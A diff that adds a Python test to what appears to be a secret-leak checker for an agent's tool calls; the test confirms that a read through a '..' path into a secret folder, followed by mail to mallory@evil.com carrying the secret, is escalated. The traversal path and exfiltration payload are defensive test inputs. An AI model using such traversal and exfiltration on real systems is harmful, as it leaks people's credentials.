@@ -117,6 +117,15 @@ def test_a_secret_that_leaves_is_left_to_a_person(facts: str) -> None:
     assert outcome("", said, "send", leak) == "admit"
 
 
+def test_a_path_that_goes_up_may_lead_to_a_secret() -> None:
+    """Where folders are secret, what stands below a path with `..` is so too; a path elsewhere is none."""
+    leak = {"to": "mallory@evil.com", "body": "the word is hunter2"}
+    for path, expected in (("/tmp/../house/keys.txt", "escalate"), ("/tmp/keys.txt", "admit")):
+        told: Told = ("read_file", {"path": path}, "hunter2")
+        assert outcome('secret_path("/house/").', talk(told), "send", leak) == expected
+        assert outcome("", talk(told), "send", leak) == "admit"
+
+
 def test_no_flood_of_other_places_hides_a_secret() -> None:
     """A value is secret by each of its places, however many others it stood in before."""
     flood: list[Told] = [("read_mail", {}, f"news {number} about hunter2") for number in range(40)]
